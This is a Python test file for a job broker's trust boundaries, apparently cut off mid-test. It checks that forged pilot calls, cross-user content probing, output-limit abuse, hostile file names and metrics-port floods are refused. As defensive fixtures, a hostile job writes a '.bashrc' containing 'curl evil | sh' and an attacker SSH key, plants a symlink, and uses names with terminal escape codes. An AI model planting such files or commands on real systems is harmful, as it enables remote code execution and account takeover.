"""The broker's trust boundaries, tested as the attacker: a rogue agent, a curious user, a hostile job,
an idle flood on the metrics port, a leaked token. Each test drives a real BrokerServer over mutual TLS
(and, where the store changes, on SQLite and on a private PostgreSQL) and asserts the refusal, its status
code and words, and that nothing changed.
"""

from __future__ import annotations

import datetime
import hashlib
import json
import logging
import os
import pathlib
import socket
import subprocess
import sys
import threading
import urllib.request
from types import SimpleNamespace

import grpc
import pytest
from grpc_health.v1 import health_pb2, health_pb2_grpc
from pg import PostgresCluster, pg_server, pg_url  # noqa: F401  (fixtures: a private PostgreSQL server)
from test_pilot_e2e import wait_for

from broker.ca import CertificateAuthority
from broker.files import Incoming
from broker.server import BrokerConfig, BrokerServer
from broker.store.base import OutputRecord
from pilot.api.client import (
    AccessDenied,
    AdminClient,
    AgentClient,
    BrokerClient,
    BrokerUnavailable,
    InvalidRequest,
    JobClient,
    MatchedJob,
    NotFound,
    PreconditionFailed,
)
from pilot.api.states import JobState
from pilot.errors import UsageError
from pilot.tokens import TokenRole
from pilot.tokens.files import certificate_pem, private_key_pem, write_private
from splitpilot.broker.v1 import broker_pb2 as pb
from splitpilot.broker.v1 import broker_pb2_grpc as rpc_pb
from splitpilot.job.v1 import job_pb2

#: Every job names a walltime (the broker refuses one without).
WALLTIME = job_pb2.Requirements(walltime_s=3600)
SLOT = {"cores": 4, "memory_mb": 8000, "disk_mb": 10000, "time_left_s": 86400}
KiB = 1024
BIN = pathlib.Path(sys.executable).parent / "splitpilot"
HOUR = datetime.timedelta(hours=1)
SERVING = health_pb2.HealthCheckResponse.SERVING
NOT_SERVING = health_pb2.HealthCheckResponse.NOT_SERVING


# ------------------------------------------------------------------ fixtures and helpers

@pytest.fixture(scope="module")
def ca_dir(tmp_path_factory) -> str:
    path = str(tmp_path_factory.mktemp("trust-ca") / "ca")
    CertificateAuthority.init(path)
    return path


@pytest.fixture(scope="module")
def ca(ca_dir) -> CertificateAuthority:
    return CertificateAuthority.load(ca_dir)


@pytest.fixture(scope="module")
def tokens(ca) -> SimpleNamespace:
    return SimpleNamespace(
        alice=ca.new_token(TokenRole.USER, "alice"),
        bob=ca.new_token(TokenRole.USER, "bob"),
        admin=ca.new_token(TokenRole.ADMIN, "root"),
        agent=ca.new_token(TokenRole.AGENT, "glidein-a", site="SITE-A", queue="default"),
        # The same holder and site, another certificate (another factory batch).
        agent_a2=ca.new_token(TokenRole.AGENT, "glidein-a", site="SITE-A", queue="default"),
        agent_b=ca.new_token(TokenRole.AGENT, "glidein-b", site="SITE-B", queue="default"),
    )


def start_server(tmp_path, ca_dir, **overrides) -> BrokerServer:
    state = tmp_path / f"state-{len(list(tmp_path.iterdir()))}"
    settings = {"listen": "127.0.0.1:0", "metrics": "127.0.0.1:0", "reap_interval": 0, "grace": 1.0, **overrides}
    server = BrokerServer(BrokerConfig(state_dir=str(state), ca_dir=ca_dir, **settings))
    server.start()
    return server


@pytest.fixture(params=["sqlite", "postgresql"])
def backend(request) -> dict:
    """BrokerConfig overrides for each store."""
    return {"db_url": request.getfixturevalue("pg_url")} if request.param == "postgresql" else {}


@pytest.fixture
def server(tmp_path, ca_dir, backend):
    server = start_server(tmp_path, ca_dir, **backend)
    yield server
    server.stop()


@pytest.fixture
def small_server(tmp_path, ca_dir, backend):
    """Tight limits: 64 KiB per file, 100 KiB of outputs per job, 4 outputs per job."""
    server = start_server(tmp_path, ca_dir, max_file_size=64 * KiB, max_job_bytes=100 * KiB, max_job_files=4,
                          **backend)
    yield server
    server.stop()


@pytest.fixture
def clients(server, tokens):
    made = SimpleNamespace(
        alice=BrokerClient(server.address, tokens.alice), bob=BrokerClient(server.address, tokens.bob),
        admin=AdminClient(server.address, tokens.admin), admin_user=BrokerClient(server.address, tokens.admin),
        agent=AgentClient(server.address, tokens.agent), agent_a2=AgentClient(server.address, tokens.agent_a2),
        agent_b=AgentClient(server.address, tokens.agent_b))
    yield made
    for client in vars(made).values():
        client.close()


def write(path: pathlib.Path, data: bytes) -> str:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return str(path)


def submit_one(client: BrokerClient, **fields) -> int:
    fields.setdefault("requirements", WALLTIME)
    return client.submit(job_pb2.JobSpec(executable="run.sh", name=fields.pop("name", "t"), **fields))[0]


def match(agent: AgentClient, pilot: str = "pilot-1", node: str = "node-1") -> MatchedJob:
    result = agent.match(SLOT, pilot, node)
    assert isinstance(result, MatchedJob), result
    return result


def running(matched: MatchedJob) -> JobClient:
    job = matched.job_client()
    job.update_state(JobState.STARTED)
    job.update_state(JobState.RUNNING)
    return job


def channel_for(server: BrokerServer, chain_pem: bytes, key_pem: bytes) -> grpc.Channel:
    return grpc.secure_channel(server.address, grpc.ssl_channel_credentials(server.ca_pem, key_pem, chain_pem))


def user_channel(server: BrokerServer, token) -> grpc.Channel:
    return channel_for(server, certificate_pem(list(token.chain[:1])), private_key_pem(token.key))


def header(name: str, data: bytes, size: int | None = None) -> pb.UploadFileRequest:
    """The first message of a file stream (an upload's; put_raw turns it into a PutOutputRequest)."""
    return pb.UploadFileRequest(header=pb.FileHeader(name=name, size=len(data) if size is None else size,
                                                     sha256=hashlib.sha256(data).hexdigest()))


def upload_raw(server: BrokerServer, token, name: str, data: bytes) -> pb.UploadFileResponse:
    channel = user_channel(server, token)
    try:
        return rpc_pb.UserServiceStub(channel).UploadFile(iter([header(name, data), pb.UploadFileRequest(data=data)]),
                                                          timeout=30)
    finally:
        channel.close()


def put_raw(server: BrokerServer, matched: MatchedJob, chunks) -> pb.PutOutputResponse:
    channel = channel_for(server, matched.token_pem, matched.key_pem)
    try:
        # Every file stream has the same layout: a message of another stream is re-typed, not rebuilt.
        retyped = (pb.PutOutputRequest.FromString(chunk.SerializeToString()) for chunk in chunks)
        return rpc_pb.JobServiceStub(channel).PutOutput(retyped, timeout=60)
    finally:
        channel.close()


def refusal(fn, *args, **kwargs) -> grpc.RpcError:
    with pytest.raises(grpc.RpcError) as info:
        fn(*args, **kwargs)
    return info.value


# ------------------------------------------------------------------ 1. pilot calls bound to the certificate

def test_an_agent_cannot_act_for_a_pilot_of_another_certificate(server, clients):
    """SITE-B's agent, and a second agent certificate of SITE-A, name the SITE-A pilot id that job status
    shows: killing its job (LIMIT), re-queueing it, heartbeats and ends that would rewrite the pilot's
    record, and a Match under its id are all refused with PERMISSION_DENIED, and nothing changes."""
    victim, spare = submit_one(clients.alice), submit_one(clients.alice)
    matched = match(clients.agent, "pilot-1", "node-1")
    assert matched.job_id == victim
    shown_pilot = clients.alice.status(victim).pilot_id
    assert shown_pilot == "pilot-1"

    def state() -> tuple:
        return (clients.alice.status(victim), clients.alice.status(spare), clients.admin.list_pilots())

    before = state()
    for attacker in (clients.agent_b, clients.agent_a2):
        calls = (
            lambda a=attacker: a.report_attempt_failure(victim, 1, "limit", "over the memory limit", shown_pilot),
            lambda a=attacker: a.report_attempt_failure(victim, 1, "wrapper", "died", shown_pilot),
            lambda a=attacker: a.pilot_heartbeat(shown_pilot, "evil-node", [(victim, 1)]),
            lambda a=attacker: a.pilot_heartbeat(shown_pilot, "evil-node", [(victim, 1)],
                                                 usage={(victim, 1): (1.0, 1, 1)}),
            lambda a=attacker: a.report_pilot_end(shown_pilot, "evil-node", 0, "bye", abandoned=True),
            lambda a=attacker: a.match(SLOT, shown_pilot, "evil-node"),
        )
        for call in calls:
            with pytest.raises(AccessDenied) as info:
                call()
            assert info.value.code is grpc.StatusCode.PERMISSION_DENIED
            assert "pilot id 'pilot-1' belongs to another agent certificate" in info.value.details
            assert "nothing was changed; fix:" in info.value.details
    assert state() == before  # no job touched, no pilot record rewritten, the spare job not claimed
    # The job's own token was never fenced, and the rightful agent goes on.
    with matched.job_client() as job:
        assert job.update_state(JobState.STARTED).state is JobState.STARTED
    assert clients.agent.pilot_heartbeat("pilot-1", "node-1", [(victim, 1)]).stop == []
    pilot = clients.admin.list_pilots()[0]
    assert (pilot.site, pilot.node) == ("SITE-A", "node-1")
    assert pilot.certificate_serial == f"{clients.agent.identity.serial:x}"


def test_an_agent_keeps_alive_only_the_attempts_its_own_pilot_holds(server, clients):
    """Liveness rides on pilot heartbeats (MatchedJob.liveness_from_pilot). SITE-B's agent, under its own
    pilot id, vouches for SITE-A's running job with made-up usage; so does SITE-A's agent under another pilot
    id, and for a made-up attempt: each is told to stop it, and the job's record (usage, state) is unchanged.
    The rightful pilot's vouching lands. A heartbeat listing more attempts than a pilot can hold is
    INVALID_ARGUMENT naming the bound, with nothing changed."""
    victim = submit_one(clients.alice)
    matched = match(clients.agent, "pilot-1", "node-1")
    assert (matched.job_id, matched.liveness_from_pilot) == (victim, True)
    with matched.job_client() as job:
        job.update_state(JobState.STARTED)
        job.update_state(JobState.RUNNING)
    before = clients.alice.status(victim)
    assert before.cpu_seconds is None          # no heartbeat yet
    forged = {(victim, 1): (9999.0, 1 << 40, 1), (victim, 2): (1.0, 1, 1)}
    for agent, pilot in ((clients.agent_b, "pilot-b"), (clients.agent, "pilot-other"), (clients.agent_a2, "p2")):
        answer = agent.pilot_heartbeat(pilot, "node-x", list(forged), usage=forged)
        assert sorted(answer.stop) == sorted(forged)
    assert clients.alice.status(victim) == before
    flood = [(victim, 1)] * 1025
    with pytest.raises(InvalidRequest) as info:
        clients.agent.pilot_heartbeat("pilot-1", "node-1", flood, usage={(victim, 1): (5.0, 7, 0)})
    assert info.value.code is grpc.StatusCode.INVALID_ARGUMENT
    assert "more than the 1024 one pilot may hold" in info.value.details and "fix:" in info.value.details
    assert clients.alice.status(victim) == before
    answer = clients.agent.pilot_heartbeat("pilot-1", "node-1", [(victim, 1)], usage={(victim, 1): (5.0, 7 << 20, 0)})
    assert answer.stop == []
    after = clients.alice.status(victim)
    assert (after.state, after.cpu_seconds, after.rss_bytes) == (JobState.RUNNING, 5.0, 7 << 20)


def test_refreshed_job_tokens_never_outlive_the_holding_pilots_certificate(tmp_path, ca_dir, ca, tokens, backend):
    """The pilot's agent token lives 1 h. An agent with a 2-day token cannot raise that cap under the
    pilot's id (refused); a job token presented with a longer life (issued by hand) is refreshed only up
    to the pilot's certificate, as recorded in the store: after a restart, and on another broker of the
    same database, too."""
    first = start_server(tmp_path, ca_dir, **backend)
    short = ca.new_token(TokenRole.AGENT, "glidein-s", site="SITE-A", queue="default", ttl=HOUR)
    long = ca.new_token(TokenRole.AGENT, "glidein-l", site="SITE-A", queue="default",
                        ttl=datetime.timedelta(days=2))
    short_end = short.certificate.not_valid_after_utc
    try:
        with BrokerClient(first.address, tokens.alice) as alice:
            submit_one(alice)
        with AgentClient(first.address, short) as agent:
            matched = match(agent, "pilot-short")
        with AgentClient(first.address, long) as thief:
            with pytest.raises(AccessDenied, match="belongs to another agent certificate"):
                thief.pilot_heartbeat("pilot-short", "node")
        # A job token for this job and attempt with a 2-day life, as `splitpilot token issue --role job` makes.
        manual = ca.new_token(TokenRole.JOB, "alice", job_id=matched.job_id, attempt=matched.attempt,
                              ttl=datetime.timedelta(days=2))
        with JobClient(first.address, certificate_pem(list(manual.chain)), manual.key) as job:
            assert job.refresh_token() <= short_end
            assert job.refresh_token(time_left_s=600) <= datetime.datetime.now(datetime.UTC) + datetime.timedelta(
                seconds=601)
        # And a refresh is what lets a job outlive its first token: a 5-minute job token is refreshed up
        # to the pilot's certificate (what the agent's TokenRefresh relies on), no further.
        brief = ca.new_token(TokenRole.JOB, "alice", job_id=matched.job_id, attempt=matched.attempt,
                             ttl=datetime.timedelta(minutes=5))
        with JobClient(first.address, certificate_pem(list(brief.chain)), brief.key) as job:
            lengthened = job.refresh_token()
            assert brief.certificate.not_valid_after_utc < lengthened <= short_end
    finally:
        first.stop()
    # Durable: a broker started afterwards (the same state directory, or the same PostgreSQL) knows the cap.
    if backend:
        second = start_server(tmp_path, ca_dir, **backend)
    else:
        second = BrokerServer(BrokerConfig(state_dir=first.state_dir, ca_dir=ca_dir, listen="127.0.0.1:0",
                                           reap_interval=0))
        second.start()
    try:
        with JobClient(second.address, certificate_pem(list(manual.chain)), manual.key) as job:
            refreshed = job.refresh_token(time_left_s=7 * 86400)
            assert refreshed <= short_end
            assert job.refresh_token() <= refreshed  # never longer than the token presented
    finally:
        second.stop()


# ------------------------------------------------------------------ 3. content per owner

def test_the_curious_user_can_neither_use_nor_detect_another_users_content(server, clients, tokens, tmp_path):
    """Bob knows the sha256 and size of Alice's input and of her job's output. Naming them as inputs
    (right size or wrong) gets exactly the words of content the broker never had, so he learns neither
    that it exists nor its size; an admin submitting acts as itself; UploadFile's already_present only
    says whether the caller had uploaded it."""
    secret = b"alice's private input\n" * 50
    uploaded = clients.alice.upload(write(tmp_path / "secret.dat", secret))
    job_id = submit_one(clients.alice, input_files=[uploaded])
    with running(match(clients.agent)) as job:
        produced = job.put_output(write(tmp_path / "result.out", b"alice's private result\n" * 40))
        job.update_state(JobState.SAVING)
        job.update_state(JobState.DONE, exit_code=0)
    unknown_sha = hashlib.sha256(b"nobody has this").hexdigest()

    def refused(client: BrokerClient, sha: str, size: int) -> str:
        with pytest.raises(PreconditionFailed) as info:
            client.submit(job_pb2.JobSpec(requirements=WALLTIME, executable="x", name="peek", input_files=[
                job_pb2.InputFile(name="in.dat", size=size, sha256=sha)]))
        assert info.value.code is grpc.StatusCode.FAILED_PRECONDITION
        return info.value.details.replace(sha, "SHA")

    baseline = refused(clients.bob, unknown_sha, 100)
    assert "is not in the broker's file store; fix: upload the file first" in baseline
    for known in (uploaded, produced):
        for size in (known.size, known.size + 1, 1):
            assert refused(clients.bob, known.sha256, size) == baseline
            assert refused(clients.admin_user, known.sha256, size) == baseline  # admins act as themselves
    assert clients.bob.list().jobs == [] and clients.admin_user.list().jobs == []
    assert [j.job_id for j in clients.admin.list_all_jobs().jobs] == [job_id]  # nothing was queued

    # Bob holding the bytes himself proves it by sending them all: then they are his too.
    again = upload_raw(server, tokens.bob, "mine.dat", secret)
    assert again.sha256 == uploaded.sha256 and not again.already_present
    assert upload_raw(server, tokens.bob, "mine.dat", secret).already_present
    assert upload_raw(server, tokens.alice, "secret.dat", secret).already_present
    assert submit_one(clients.bob, input_files=[job_pb2.InputFile(name="in.dat", size=len(secret),
                                                                  sha256=uploaded.sha256)])
    # Alice may feed her job's output to her next job.
    assert submit_one(clients.alice, input_files=[job_pb2.InputFile(name="prev.out", size=produced.size,
                                                                    sha256=produced.sha256)])


# ------------------------------------------------------------------ 4. output limits, replacement

def test_parallel_uploads_cannot_overrun_the_per_job_output_limit(small_server, tokens):
    """Six uploads of 30 KiB announce themselves at once (every header is read before any data is sent)
    against a 100 KiB limit: three are refused on their header, the stored total stays within the limit,
    and no reservation or temporary file is left."""
    with BrokerClient(small_server.address, tokens.alice) as alice, \
            AgentClient(small_server.address, tokens.agent) as agent:
        job_id = submit_one(alice)
        matched = match(agent)
        running(matched).close()
    files, store = small_server.broker.files, small_server.store
    go = threading.Event()
    results: dict[int, object] = {}

    def upload(n: int) -> None:
        data = bytes([n]) * (30 * KiB)

        def chunks():
            yield header(f"part-{n}.out", data)
            go.wait(60)  # every header is in before any data
            yield pb.UploadFileRequest(data=data)
        try:
            results[n] = put_raw(small_server, matched, chunks())
        except grpc.RpcError as exc:
            results[n] = exc

    threads = [threading.Thread(target=upload, args=(n,)) for n in range(6)]
    for thread in threads:
        thread.start()
    try:
        # Accepted headers hold a temporary file each; refused ones have answered.
        wait_for(lambda: len(files.temp_files()) + len(results) == 6, 60, "every header to be accepted or refused")
    finally:
        go.set()
        for thread in threads:
            thread.join(60)
    refused = [r for r in results.values() if isinstance(r, grpc.RpcError)]
    assert len(refused) == 3 and len(results) == 6
    for error in refused:
        assert error.code() is grpc.StatusCode.INVALID_ARGUMENT
        assert "over the broker's per-job output limit of 100 KiB" in error.details()
    outputs = store.get(job_id).outputs
    assert len(outputs) == 3 and sum(o.size for o in outputs) <= 100 * KiB
    assert store.pending_outputs(job_id) == [] and files.temp_files() == []
    assert files.usage() == (3, 90 * KiB)


def test_a_replaced_output_frees_its_old_content_unless_still_referenced(small_server, tokens, tmp_path):
    """Re-uploading one name six times (over the limit in total, never at once) replaces it each time
    and frees the old bytes; content that a user uploaded, or that a later job takes as input, is kept."""
    with BrokerClient(small_server.address, tokens.alice) as alice, \
            AgentClient(small_server.address, tokens.agent) as agent:
        files = small_server.broker.files
        kept = b"also alice's upload\n" * 100
        alice.upload(write(tmp_path / "kept.dat", kept))
        job_id = submit_one(alice)
        with running(match(agent)) as job:
            previous = None
            for round_ in range(6):
                data = bytes([65 + round_]) * (60 * KiB)
                stored = job.put_output(write(tmp_path / f"log-{round_}", data), "log.txt")
                assert files.size_of(stored.sha256) is not None
                if previous is not None:
                    assert files.size_of(previous) is None, f"round {round_}: the replaced content is still stored"
                previous = stored.sha256
            assert files.usage() == (2, 60 * KiB + len(kept))
            # The same bytes as Alice's upload, then replaced: her upload is still there.
            job.put_output(write(tmp_path / "same", kept), "copy.dat")
            job.put_output(write(tmp_path / "other", b"other"), "copy.dat")
            assert files.size_of(hashlib.sha256(kept).hexdigest()) is not None
            # An output a later job takes as input stays when the output is replaced.
            shared = job.put_output(write(tmp_path / "shared", b"shared data\n"), "shared.out")
            submit_one(alice, input_files=[job_pb2.InputFile(name="in", size=shared.size, sha256=shared.sha256)])
            job.put_output(write(tmp_path / "shared2", b"replacement\n"), "shared.out")
            assert files.size_of(shared.sha256) is not None
        outputs = {o.name: o.sha256 for o in alice.status(job_id).outputs}
        assert outputs["log.txt"] == previous and small_server.store.pending_outputs(job_id) == []


def test_outputs_per_job_are_bounded_and_broken_uploads_release_their_reservation(small_server, tokens, tmp_path):
    with BrokerClient(small_server.address, tokens.alice) as alice, \
            AgentClient(small_server.address, tokens.agent) as agent:
        job_id = submit_one(alice)
        matched = match(agent)
        with running(matched) as job:
            for n in range(4):
                job.put_output(write(tmp_path / f"o{n}", b"x"), f"o{n}")
            with pytest.raises(InvalidRequest, match="the job would have 5 outputs, over the broker's limit of 4"):
                job.put_output(write(tmp_path / "o4", b"x"), "o4")
            job.put_output(write(tmp_path / "o0b", b"y"), "o0")  # a replacement is not a new output
        store, files = small_server.store, small_server.broker.files
        before = files.usage()
        data = b"z" * 1000
        short = refusal(put_raw, small_server, matched, [header("o1", data), pb.UploadFileRequest(data=data[:10])])
        assert short.code() is grpc.StatusCode.INVALID_ARGUMENT and "arrived" in short.details()

        def abandoned():
            yield header("o2", data)
            raise RuntimeError("the client gives up mid-upload")
        with pytest.raises(grpc.RpcError):
            put_raw(small_server, matched, abandoned())
        wait_for(lambda: store.pending_outputs(job_id) == [], 30, "the abandoned upload's reservation to go")
        assert files.temp_files() == [] and files.usage() == before
        assert sorted(o.name for o in alice.status(job_id).outputs) == ["o0", "o1", "o2", "o3"]


def test_a_client_leaving_mid_write_never_has_its_file_closed_under_the_write(sqlite_server, tokens, monkeypatch):
    """The client cancels its upload while the broker writes a chunk in a pool thread. The upload's
    temporary file must be aborted only after that write returned, never alongside it (abort closes the
    descriptor the write uses, whose number the process may hand to another connection at once); the
    reservation is released and nothing is left behind."""
    server = sqlite_server
    files, store = server.broker.files, server.store
    log: list[str] = []
    entered, release = threading.Event(), threading.Event()

    class GatedIncoming(Incoming):
        def write(self, data: bytes) -> None:
            log.append("write")
            entered.set()
            release.wait(60)  # the broker is busy writing when the client leaves
            try:
                super().write(data)
            finally:
                log.append("written")

        def abort(self) -> None:
            log.append("abort")
            super().abort()

    monkeypatch.setattr(files, "receive", lambda name, size, sha256, what="": GatedIncoming(files, name, size,
                                                                                              sha256))
    with BrokerClient(server.address, tokens.alice) as alice, AgentClient(server.address, tokens.agent) as agent:
        job_id = submit_one(alice)
        matched = match(agent)
        running(matched).close()
    data = b"d" * 1000
    hold = threading.Event()

    def chunks():
        yield header("slow.out", data)
        yield pb.UploadFileRequest(data=data[:10])
        hold.wait(60)  # the stream stays open until the test ends

    channel = channel_for(server, matched.token_pem, matched.key_pem)
    try:
        call = rpc_pb.JobServiceStub(channel).PutOutput.future(chunks(), timeout=60)
        wait_for(entered.is_set, 30, "the broker to start writing the first chunk")
        assert store.pending_outputs(job_id) == [(1, "slow.out", 1000)]
        call.cancel()
        # The handler's clean-up has run (the reservation is gone) while the write still runs...
        wait_for(lambda: store.pending_outputs(job_id) == [], 30, "the cancelled upload's reservation to go")
        assert log == ["write"], log  # ...and nothing closed the file under it
        release.set()
        wait_for(lambda: files.temp_files() == [], 30, "the temporary file to be removed after the write")
        assert log == ["write", "written", "abort"], log
    finally:
        release.set()
        hold.set()
        channel.close()
    assert files.usage() == (0, 0) and store.get(job_id).outputs == ()


# ------------------------------------------------------------------ 5. names with control characters

@pytest.mark.parametrize("name", ["a\x1b[31mred", "evil\u202etxt.exe", "two\nlines", "c1\x9bx", "del\x7f",
                                  "iso\u2066late"])
def test_names_with_control_characters_are_refused_at_every_door(server, clients, tokens, name, tmp_path):
    """UploadFile, PutOutput, Submit's input names and output patterns: INVALID_ARGUMENT naming the
    problem, the name shown escaped, never raw; nothing stored, nothing queued."""
    data = b"payload\n"
    files = server.broker.files
    job_id = submit_one(clients.alice)
    matched = match(clients.agent)
    running(matched).close()
    before = files.usage()
    bad_char = next(c for c in name if not c.isprintable())
    problems = []
    problems.append(refusal(upload_raw, server, tokens.alice, name, data))
    problems.append(refusal(put_raw, server, matched, [header(name, data), pb.UploadFileRequest(data=data)]))
    problems.append(refusal(put_raw, server, matched, [header(f"dir/{name}/x", data), pb.UploadFileRequest(data=data)]))
    for error in problems:
        assert error.code() is grpc.StatusCode.INVALID_ARGUMENT, error.details()
        assert f"U+{ord(bad_char):04X}" in error.details() and "fix:" in error.details()
        assert bad_char not in error.details()  # escaped, never raw
    good = clients.alice.upload(write(tmp_path / "good.dat", data))
    for spec in (job_pb2.JobSpec(requirements=WALLTIME, executable="x", input_files=[
                     job_pb2.InputFile(name=name, size=good.size, sha256=good.sha256)]),
                 job_pb2.JobSpec(requirements=WALLTIME, executable="x", output_patterns=[f"*{name}*"])):
        with pytest.raises(InvalidRequest) as info:
            clients.alice.submit(spec)
        assert info.value.code is grpc.StatusCode.INVALID_ARGUMENT and bad_char not in info.value.details
    assert files.usage() == (before[0] + 1, before[1] + len(data)) and files.temp_files() == []  # only `good`
    assert clients.alice.status(job_id).outputs == ()
    assert [j.job_id for j in clients.alice.list().jobs] == [job_id]


# ------------------------------------------------------------------ 6. downloads never overwrite, never leave DIR

def run_cli(*args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([str(BIN), *args], capture_output=True, text=True, timeout=timeout)


@pytest.fixture
def sqlite_server(tmp_path, ca_dir):
    server = start_server(tmp_path, ca_dir)
    yield server
    server.stop()


def test_job_output_never_overwrites_and_never_leaves_dir(sqlite_server, tokens, tmp_path):
    """A job names its outputs .bashrc, .ssh/authorized_keys, clash and clash/inner (a name with an
    escape sequence is refused at upload; one slipped into the records by an older broker is refused by
    the client). DIR holds the user's own .bashrc and a planted link .ssh -> a folder outside. `job
    output` changes neither, follows no link, still fetches the rest, exits 1, prints names escaped."""
    server = sqlite_server
    home = tmp_path / "home"
    victim = tmp_path / "outside-ssh"
    victim.mkdir()
    (victim / "authorized_keys").write_text("ssh-ed25519 AAAA my-own-key\n")
    out = home / "results"
    out.mkdir(parents=True)
    (out / ".bashrc").write_text("# my bashrc\n")
    (out / ".ssh").symlink_to(victim)
    token_file = tmp_path / "alice.pem"
    write_private(str(token_file), tokens.alice.to_pem())
    hostile = {".bashrc": b"curl evil | sh\n", ".ssh/authorized_keys": b"ssh-ed25519 AAAA attacker\n",
               "clash": b"a file named clash\n", "clash/inner": b"cannot live under a file\n",
               "plain.txt": b"a harmless result\n"}
    legacy = "old\x1b]0;owned\x07title"
    with BrokerClient(server.address, tokens.alice) as alice, AgentClient(server.address, tokens.agent) as agent:
        job_id = submit_one(alice)
        matched = match(agent)
        with running(matched) as job:
            for name, data in hostile.items():
                job.put_output(write(tmp_path / "sandbox" / "f", data), name)
            refused = refusal(put_raw, server, matched, [header("a\x1b[31mred", b"x"), pb.UploadFileRequest(data=b"x")])
            assert refused.code() is grpc.StatusCode.INVALID_ARGUMENT and "U+001B" in refused.details()
            # An older broker let such a name into the records: the client must refuse it too.
            server.store.add_output(job_id, matched.attempt, OutputRecord(legacy, len(hostile["plain.txt"]),
                                    hashlib.sha256(hostile["plain.txt"]).hexdigest()),
                                    datetime.datetime.now(datetime.UTC))
            job.update_state(JobState.SAVING)
            job.update_state(JobState.DONE, exit_code=0)
        other = submit_one(alice, name="second")
        with running(match(agent, "pilot-2")) as job:
            job.put_output(write(tmp_path / "sandbox" / "r", b"second job\n"), "result.out")
            job.update_state(JobState.SAVING)
            job.update_state(JobState.DONE, exit_code=0)

    connection = ("--broker", server.address, "--token", str(token_file))
    result = run_cli("job", "output", *connection, str(job_id), str(out))
    assert result.returncode == 1, result.stderr
    assert (out / ".bashrc").read_text() == "# my bashrc\n"
    assert (out / ".ssh").is_symlink() and os.listdir(victim) == ["authorized_keys"]
    assert (victim / "authorized_keys").read_text() == "ssh-ed25519 AAAA my-own-key\n"
    assert (out / "clash").read_bytes() == hostile["clash"] and (out / "plain.txt").read_bytes() == hostile[
        "plain.txt"]
    assert sorted(os.listdir(out)) == [".bashrc", ".ssh", "clash", "plain.txt"]  # no temporary file left
    err = result.stderr
    assert "'.bashrc'" in err and "exists and was left as it is; fix: add --force" in err
    assert "'.ssh' in" in err and "is a symbolic link, which is never followed" in err
    assert "'clash' in" in err and "is a file, not a folder" in err
    assert "\\x1b]0;owned\\x07title" in err and "control character (U+001B)" in err, err
    assert "4 output(s) failed, 2 downloaded" in err
    assert "\x1b" not in result.stdout + err and "\x07" not in result.stdout + err  # nothing raw reaches a terminal

    forced = run_cli("job", "output", *connection, "--force", str(job_id), str(out))
    assert forced.returncode == 1, forced.stderr
    assert (out / ".bashrc").read_bytes() == hostile[".bashrc"]  # a regular file, replaced on request
    assert (out / ".ssh").is_symlink() and (victim / "authorized_keys").read_text() == "ssh-ed25519 AAAA my-own-key\n"
    assert os.listdir(victim) == ["authorized_keys"]

    both = run_cli("job", "output", *connection, str(job_id), str(other), str(home / "both"))
    assert both.returncode == 1  # the hostile job's bad outputs; the rest is fetched
    assert (home / "both" / str(other) / "result.out").read_bytes() == b"second job\n"
    assert (home / "both" / str(job_id) / ".ssh" / "authorized_keys").read_bytes() == hostile[".ssh/authorized_keys"]
    assert f"job {other}: 1 of 1 output(s) downloaded" in both.stderr


# ------------------------------------------------------------------ 7. the metrics endpoint

def test_idle_connections_cannot_exhaust_the_metrics_endpoint(tmp_path, ca_dir):
    """1,500 idle TCP connections to the metrics port: no thread per connection, a scrape still answers
    while they are open, and the server closes every one of them (at its connection bound, oldest first,
    or after the read timeout)."""
    server = start_server(tmp_path, ca_dir, metrics_timeout=2.0)
    url = f"http://127.0.0.1:{server.metrics_port}/metrics"
    with urllib.request.urlopen(url, timeout=30) as response:  # the renderer thread exists from here on
        assert response.status == 200
    threads = threading.active_count()
    idle: list[socket.socket] = []
    try:
        for _ in range(1500):
            idle.append(socket.create_connection(("127.0.0.1", server.metrics_port), timeout=30))
        assert threading.active_count() <= threads + 1
        with urllib.request.urlopen(url, timeout=30) as response:
            assert response.status == 200 and b"splitpilot_jobs{" in response.read()
        assert threading.active_count() <= threads + 1
        for sock in idle:
            sock.setblocking(False)

        def all_closed_by_the_server() -> bool:
            for sock in list(idle):
                try:
                    if sock.recv(1) != b"":
                        raise AssertionError("an idle connection got an answer it never asked for")
                except BlockingIOError:
                    return False  # still open
                except ConnectionError:
                    pass  # reset: closed by the server too
                idle.remove(sock)
                sock.close()
            return True
        wait_for(all_closed_by_the_server, 60, "the server to close the idle connections")
        wait_for(lambda: server._metrics_server.connections == 0, 30, "the server to forget them")
    finally:
        for sock in idle:
            sock.close()
        server.stop()


def test_metrics_stay_on_loopback_unless_made_public_loudly(tmp_path, ca_dir, caplog):
    for address in ("0.0.0.0:0", "[::]:0"):
        with pytest.raises(UsageError) as info:
            start_server(tmp_path, ca_dir, metrics=address)
        assert "--metrics-public" in str(info.value) and "fix:" in str(info.value)
    port_only = start_server(tmp_path, ca_dir, metrics="0")
    try:
        assert port_only._metrics_server._socket.getsockname()[0] == "127.0.0.1"
    finally:
        port_only.stop()
    with caplog.at_level(logging.WARNING, logger="splitpilot.broker"):
        public = start_server(tmp_path, ca_dir, metrics="0.0.0.0:0", metrics_public=True)
    try:
        assert "METRICS ARE PUBLIC" in caplog.text
        with urllib.request.urlopen(f"http://127.0.0.1:{public.metrics_port}/metrics", timeout=30) as response:
            assert response.status == 200
    finally:
        public.stop()


# ------------------------------------------------------------------ 8. revocation

def test_a_revoked_token_is_refused_by_every_broker_on_the_database(tmp_path, ca_dir, ca, tokens, pg_url):  # noqa: F811
    """Two brokers on one PostgreSQL. A user token and an agent token, both already verified and cached
    by broker B, are revoked through broker A: A refuses them at once, B within seconds."""
    a = start_server(tmp_path, ca_dir, db_url=pg_url, revocation_refresh=0.5)
    b = start_server(tmp_path, ca_dir, db_url=pg_url, revocation_refresh=0.5)
    carol = ca.new_token(TokenRole.USER, "carol")
    glidein = ca.new_token(TokenRole.AGENT, "glidein-r", site="SITE-A", queue="default")
    carol_serial = f"{carol.certificate.serial_number:x}"
    try:
        with BrokerClient(b.address, carol) as carol_b, AgentClient(b.address, glidein) as agent_b, \
                AdminClient(a.address, tokens.admin) as admin, BrokerClient(a.address, carol) as carol_a:
            assert carol_b.list().jobs == []  # verified and cached on B
            assert agent_b.pilot_heartbeat("pilot-r", "node").stop == []
            # B notes the certificates it saw; then A can revoke Carol's by serial alone.
            wait_for(lambda: a.store.seen_token(carol_serial), 30, "broker B to note Carol's certificate")
            revoked, already = admin.revoke_token("laptop stolen", serial=carol_serial)
